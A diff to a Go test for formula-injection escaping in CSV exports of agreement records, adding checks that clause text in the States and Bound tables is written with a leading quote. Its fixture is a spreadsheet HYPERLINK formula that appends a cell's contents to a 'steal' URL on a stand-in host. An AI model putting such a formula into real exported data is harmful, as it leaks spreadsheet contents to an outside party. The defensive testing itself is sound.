@@ -19,9 +19,9 @@ const hyperlink = `=HYPERLINK("https://example.org/steal?d="&A1,"Details")`
 // names are formulas, with events whose free text (item, outcome) is one
 // too, and checks that the text reaches the tables (in the causes in words)
 // and that no cell of any table, read back by encoding/csv, begins with a
-// character a spreadsheet takes for a formula unless escaped. Today's
-// columns put no free text first in a cell; the check guards any column
-// added later. TestEscapeCell checks the escaping itself.
+// character a spreadsheet takes for a formula unless escaped: the clause's
+// text, a cell of its own in States and Bound, is written with a quote
+// before it. TestEscapeCell checks the escaping itself.
 func TestFormulaInjection(t *testing.T) {
 	a := agreement.Agreement{
 		ID: "inject", SigningStatus: agreement.SigningStatusSigned,
@@ -56,6 +56,28 @@ func TestFormulaInjection(t *testing.T) {
 	}
 	if !strings.Contains(all.String(), "=HYPERLINK(") {
 		t.Errorf("the event's item is in no table:\n%s", all.String())
+	}
+	escaped := 0
+	for _, table := range []export.Table{export.States, export.Bound} {
+		var b bytes.Buffer
+		if err := export.WriteCSV(&b, tr, table); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range recs[1:] {
+			if r[1] == "CF" {
+				if r[4] != "'"+hyperlink {
+					t.Errorf("%s: text cell %q, want the clause's text escaped", table, r[4])
+				}
+				escaped++
+			}
+		}
+	}
+	if escaped == 0 {
+		t.Error("the clause's text is in no row of States or Bound")
 	}
 	for _, table := range export.Tables() {
 		t.Run(table.String(), func(t *testing.T) {
